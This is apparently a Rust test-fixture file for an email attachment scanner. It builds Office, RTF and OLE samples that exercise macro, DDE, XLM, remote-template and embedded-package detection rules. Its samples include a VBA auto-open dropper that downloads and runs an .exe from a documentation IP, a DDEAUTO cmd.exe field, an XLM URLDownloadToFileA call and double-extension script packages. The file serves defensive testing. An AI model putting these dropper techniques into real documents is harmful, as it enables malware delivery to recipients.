//! Fixtures for the OFFICE_ rules: OLE2 files made with cfb (a VBA project compressed with
//! literal-only MS-OVBA chunks, a BIFF8 workbook with an Excel 4.0 macro sheet, Package and
//! Equation objects), OOXML packages made with zip, RTF strings. Plus the negative cases: a
//! macro-free docx, a benign macro, a plain RTF must not be held.

use super::Fixture;
use super::archives::{mail, zip_of};
use lurescreen::{Config, Engine, Signatures, Verdict};
use std::io::{Cursor, Write};

/// MS-OVBA compression with literal tokens only: valid, just not smaller.
fn ovba_literal(data: &[u8]) -> Vec<u8> {
    let mut out = vec![1u8];
    for chunk in data.chunks(3640) {
        let mut body = Vec::new();
        for group in chunk.chunks(8) {
            body.push(0u8);
            body.extend_from_slice(group);
        }
        out.extend_from_slice(&(0xB000u16 | (body.len() as u16 - 1)).to_le_bytes());
        out.extend_from_slice(&body);
    }
    out
}

/// The `dir` stream records of a project with these modules, each source at offset 0.
fn dir_stream(modules: &[&str]) -> Vec<u8> {
    fn rec(d: &mut Vec<u8>, id: u16, data: &[u8]) {
        d.extend_from_slice(&id.to_le_bytes());
        d.extend_from_slice(&(data.len() as u32).to_le_bytes());
        d.extend_from_slice(data);
    }
    let mut d = Vec::new();
    rec(&mut d, 0x0001, &1u32.to_le_bytes());
    rec(&mut d, 0x0003, &1252u16.to_le_bytes());
    rec(&mut d, 0x0004, b"VBAProject");
    rec(&mut d, 0x000F, &(modules.len() as u16).to_le_bytes());
    for name in modules {
        rec(&mut d, 0x0019, name.as_bytes());
        rec(&mut d, 0x001A, name.as_bytes());
        rec(&mut d, 0x0031, &0u32.to_le_bytes());
        rec(&mut d, 0x0021, &[]);
        rec(&mut d, 0x002B, &[]);
    }
    rec(&mut d, 0x0010, &[]);
    d
}

/// An OLE2 file with these streams (storages created as needed).
fn ole(streams: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut cfb = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (path, data) in streams {
        let p = std::path::Path::new(path);
        if let Some(parent) = p.parent().filter(|p| *p != std::path::Path::new("/")) {
            cfb.create_storage_all(parent).unwrap();
        }
        cfb.create_stream(path).unwrap().write_all(data).unwrap();
    }
    cfb.flush().unwrap();
    cfb.into_inner().into_inner()
}

/// A `vbaProject.bin` with one module.
fn vba_project(module: &str, source: &str) -> Vec<u8> {
    ole(&[
        ("/VBA/dir", ovba_literal(&dir_stream(&[module]))),
        ("/VBA/_VBA_PROJECT", vec![0xCC, 0x61, 0xFF, 0xFF, 0, 0, 0]),
        (&format!("/VBA/{module}"), ovba_literal(source.as_bytes())),
        ("/PROJECT", b"Name=\"VBAProject\"\r\n".to_vec()),
    ])
}

const TYPES_PLAIN: &str = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
const TYPES_MACRO: &str = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#;

fn document(body: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>請求書を送付します。</w:t></w:r></w:p>{body}</w:body></w:document>"#
    )
}

fn docx(types: &str, body: &str, more: &[(&str, &[u8])]) -> Vec<u8> {
    let doc = document(body);
    let mut parts: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", types.as_bytes()),
        ("word/document.xml", doc.as_bytes()),
    ];
    parts.extend_from_slice(more);
    zip_of(&parts)
}

const DROPPER: &str = "Attribute VB_Name = \"ThisDocument\"\r\nPrivate Sub Document_Open()\r\n  \
    Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\n  x.Open \"GET\", \"http://198.51.100.7/a.exe\", False\r\n  \
    Shell Environ(\"TEMP\") & \"\\a.exe\"\r\nEnd Sub\r\n";
const BENIGN: &str = "Attribute VB_Name = \"Module1\"\r\nSub Workbook_Open()\r\n  \
    Sheets(\"Summary\").Range(\"B2\").Value = Date\r\nEnd Sub\r\n";

fn field(instr: &str) -> String {
    format!(
        r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{instr}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#
    )
}

fn rels(kind: &str, target: &str) -> String {
    format!(
        r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>"#
    )
}

/// A `\x01CompObj` stream naming `prog_id`.
fn compobj(prog_id: &str) -> Vec<u8> {
    let mut d = vec![0u8; 28];
    d.extend_from_slice(&0u32.to_le_bytes());
    d.extend_from_slice(&0u32.to_le_bytes());
    d.extend_from_slice(&(prog_id.len() as u32 + 1).to_le_bytes());
    d.extend_from_slice(prog_id.as_bytes());
    d.push(0);
    d
}

/// Packager native data carrying `name` (the `\x01Ole10Native` stream without its size).
fn package_native(name: &str, data: &[u8]) -> Vec<u8> {
    let mut n = 2u16.to_le_bytes().to_vec();
    n.extend_from_slice(name.as_bytes());
    n.push(0);
    n.extend_from_slice(format!("C:\\Users\\user\\Desktop\\{name}").as_bytes());
    n.push(0);
    n.extend_from_slice(&[0, 0, 3, 0, 0, 0, 0, 0]);
    n.extend_from_slice(format!("C:\\Users\\user\\AppData\\Local\\Temp\\{name}").as_bytes());
    n.push(0);
    n.extend_from_slice(&(data.len() as u32).to_le_bytes());
    n.extend_from_slice(data);
    n
}

/// OLE1 embedded-object data (as in RTF `\objdata`) of class `class`.
fn ole1(class: &str, native: &[u8]) -> Vec<u8> {
    let mut d = 0x0501u32.to_le_bytes().to_vec();
    d.extend_from_slice(&2u32.to_le_bytes());
    d.extend_from_slice(&(class.len() as u32 + 1).to_le_bytes());
    d.extend_from_slice(class.as_bytes());
    d.push(0);
    d.extend_from_slice(&[0; 8]);
    d.extend_from_slice(&(native.len() as u32).to_le_bytes());
    d.extend_from_slice(native);
    d
}

fn rtf(header: &str, class: &str, objdata: &[u8], update: bool) -> Vec<u8> {
    let hex: String = objdata.iter().map(|b| format!("{b:02x}")).collect();
    format!(
        "{{{header}\\ansi{{\\fonttbl{{\\f0 Century;}}}}\\f0 Please find the order form below and \
         return it by Friday.\\par{{\\object\\objemb{}{{\\*\\objclass {class}}}{{\\*\\objdata \
         {hex}}}}}\\par}}",
        if update { "\\objupdate" } else { "" }
    )
    .into_bytes()
}

fn record(kind: u16, data: &[u8]) -> Vec<u8> {
    let mut r = kind.to_le_bytes().to_vec();
    r.extend_from_slice(&(data.len() as u16).to_le_bytes());
    r.extend_from_slice(data);
    r
}

/// A BIFF8 workbook stream: a very hidden macro sheet whose formula calls EXEC("calc"), and the
/// built-in name Auto_Open.
fn biff8_auto_open() -> Vec<u8> {
    let bof = record(0x0809, &[0x00, 0x06, 0x05, 0x00, 0, 0, 0, 0]);
    let mut book = bof.clone();
    let at = book.len() + 4;
    book.extend(record(
        0x0085,
        &[0, 0, 0, 0, 2, 1, 6, 0, b'M', b'a', b'c', b'r', b'o', b'1'],
    ));
    let mut name = vec![0x20, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    name.extend_from_slice(&[0, 1]);
    book.extend(record(0x0018, &name));
    book.extend(record(0x000A, &[]));
    let sheet_at = book.len() as u32;
    book[at..at + 4].copy_from_slice(&sheet_at.to_le_bytes());
    book.extend(bof);
    let mut formula = vec![0u8; 20];
    let rgce = [0x17, 4, 0, b'c', b'a', b'l', b'c', 0x42, 1, 110, 0];
    formula.extend_from_slice(&(rgce.len() as u16).to_le_bytes());
    formula.extend_from_slice(&rgce);
    book.extend(record(0x0006, &formula));
    book.extend(record(0x000A, &[]));
    book
}

pub fn fixtures() -> Vec<Fixture> {
    let d = Config::default;
    let body = "ご確認ください。";
    let dropper = docx(
        TYPES_MACRO,
        "",
        &[("word/vbaProject.bin", &vba_project("ThisDocument", DROPPER))],
    );
    let benign = docx(
        TYPES_MACRO,
        "",
        &[("word/vbaProject.bin", &vba_project("Module1", BENIGN))],
    );
    let template = rels(
        "attachedTemplate",
        "https://198.51.100.23/templates/invoice.dotm",
    );
    let remote = docx(
        TYPES_PLAIN,
        "",
        &[("word/_rels/settings.xml.rels", template.as_bytes())],
    );
    let dde_cmd = docx(
        TYPES_PLAIN,
        &field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\""),
        &[],
    );
    let dde = docx(
        TYPES_PLAIN,
        &field(" DDE Excel \"C:\\\\data\\\\sales.xls\" \"R1C1:R5C5\" "),
        &[],
    );
    let xls = ole(&[("/Workbook", biff8_auto_open())]);
    let macrosheet = r#"<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://x.example/a","a.dll",0,0)</f></c></row></sheetData></xm:macrosheet>"#;
    let xlsm = zip_of(&[
        ("[Content_Types].xml", TYPES_PLAIN.as_bytes()),
        (
            "xl/workbook.xml",
            b"<workbook><sheets><sheet name=\"Sheet1\" sheetId=\"1\"/></sheets></workbook>",
        ),
        ("xl/macrosheets/sheet1.xml", macrosheet.as_bytes()),
    ]);
    let equation_native = ole(&[
        ("/\u{1}CompObj", compobj("Equation.3")),
        ("/Equation Native", vec![0x1c, 0, 0, 0, 2, 0, 0xc3, 0, 0xb0]),
    ]);
    let package_doc = ole(&[
        (
            "/WordDocument",
            vec![0xEC, 0xA5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
        ),
        ("/ObjectPool/_1554/\u{1}Ole10Native", {
            let n = package_native("請求書.pdf.js", b"WScript.Echo(1)");
            let mut s = (n.len() as u32).to_le_bytes().to_vec();
            s.extend(n);
            s
        }),
        ("/ObjectPool/_1554/\u{1}CompObj", compobj("Package")),
    ]);
    let sheet_object = ole(&[
        ("/\u{1}CompObj", compobj("Excel.Sheet.8")),
        ("/Workbook", record(0x0809, &[0x00, 0x06, 0x10, 0x00])),
    ]);
    let embedded = docx(
        TYPES_PLAIN,
        "",
        &[("word/embeddings/oleObject1.bin", &sheet_object)],
    );
    let encrypted = ole(&[
        ("/EncryptionInfo", vec![4, 0, 4, 0, 0x40, 0, 0, 0]),
        ("/EncryptedPackage", vec![0x5a; 256]),
    ]);
    let mut broken = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    broken.extend_from_slice(&[0x42; 600]);
    let chart = rtf(
        "\\rtf1",
        "Excel.Chart.8",
        &ole1("Excel.Chart.8", &sheet_object),
        false,
    );
    let autoload = rtf(
        "\\rtf1",
        "Word.Document.8",
        &ole1("Word.Document.8", &sheet_object),
        true,
    );
    let odd_header = rtf(
        "\\rtvpn",
        "Word.Document.8",
        &ole1("Word.Document.8", &sheet_object),
        false,
    );
    let equation = rtf(
        "\\rtf1",
        "Equation.3",
        &ole1("Equation.3", &equation_native),
        true,
    );
    vec![
        (
            "OFFICE_MACRO_AUTOEXEC_EXECUTE",
            d(),
            mail(body, &[("請求書.docm", &dropper)]),
        ),
        ("OFFICE_MACRO", d(), mail(body, &[("集計.xlsm", &benign)])),
        (
            "OFFICE_MACRO_CONTENT_MISMATCH",
            d(),
            mail(body, &[("集計.docx", &benign)]),
        ),
        (
            "OFFICE_REMOTE_TEMPLATE",
            d(),
            mail(body, &[("履歴書.docx", &remote)]),
        ),
        (
            "OFFICE_DDE_EXECUTE",
            d(),
            mail(body, &[("案内.docx", &dde_cmd)]),
        ),
        ("OFFICE_DDE", d(), mail(body, &[("売上.docx", &dde)])),
        (
            "OFFICE_XLM_AUTO_OPEN",
            d(),
            mail(body, &[("明細.xls", &xls)]),
        ),
        ("OFFICE_XLM_MACRO", d(), mail(body, &[("明細.xlsm", &xlsm)])),
        (
            "OFFICE_EQUATION_EDITOR",
            d(),
            mail(body, &[("注文書.rtf", &equation)]),
        ),
        (
            "OFFICE_EMBEDDED_PACKAGE",
            d(),
            mail(body, &[("案内.doc", &package_doc)]),
        ),
        (
            "OFFICE_EMBEDDED_OBJECT",
            d(),
            mail(body, &[("報告.docx", &embedded)]),
        ),
        (
            "OFFICE_ENCRYPTED",
            d(),
            mail(
                "パスワードは別途お送りします。",
                &[("請求書.docx", &encrypted)],
            ),
        ),
        (
            "OFFICE_MALFORMED",
            d(),
            mail(body, &[("壊れた.doc", &broken)]),
        ),
        (
            "OFFICE_RTF_OBJECT",
            d(),
            mail(body, &[("報告.rtf", &chart)]),
        ),
        (
            "OFFICE_RTF_AUTOLOAD",
            d(),
            mail(body, &[("報告.rtf", &autoload)]),
        ),
        (
            "OFFICE_RTF_ANOMALY",
            d(),
            mail(body, &[("報告.rtf", &odd_header)]),
        ),
    ]
}

fn scan(files: &[(&str, &[u8])]) -> lurescreen::Report {
    Engine::new(Config::default(), Signatures::embedded().unwrap())
        .scan(&mail("資料を送付します。", files))
        .unwrap()
}

#[test]
fn ordinary_documents_are_not_held() {
    let plain = docx(TYPES_PLAIN, "<w:p><w:r><w:t>議事録</w:t></w:r></w:p>", &[]);
    let r = scan(&[("議事録.docx", &plain)]);
    assert!(r.findings.is_empty(), "{:?}", r.rule_scores());
    let benign = docx(
        TYPES_MACRO,
        "",
        &[("word/vbaProject.bin", &vba_project("Module1", BENIGN))],
    );
    let r = scan(&[("集計.xlsm", &benign)]);
    assert!(r.verdict < Verdict::Quarantine, "{:?}", r.rule_scores());
    let letter = b"{\\rtf1\\ansi{\\fonttbl{\\f0 Century;}}\\f0 Thank you for your order.\\par}";
    let r = scan(&[("letter.rtf", letter)]);
    assert!(r.findings.is_empty(), "{:?}", r.rule_scores());
}

#[test]
fn a_dropper_package_in_a_document_is_held_with_its_file() {
    let package_rtf = rtf(
        "\\rtf1",
        "Package",
        &ole1(
            "Package",
            &package_native(
                "scan.pdf.vbs",
                b"CreateObject(\"WScript.Shell\").Run \"calc\"",
            ),
        ),
        false,
    );
    let r = scan(&[("scan.rtf", &package_rtf)]);
    assert_eq!(r.verdict, Verdict::Quarantine, "{:?}", r.rule_scores());
    assert!(
        r.findings.iter().any(
            |f| f.location == "2/scan.rtf!/scan.pdf.vbs" && f.rule == "ATTACH_DOUBLE_EXTENSION"
        ),
        "{:?}",
        r.findings
            .iter()
            .map(|f| (&f.rule, &f.location))
            .collect::<Vec<_>>()
    );
}
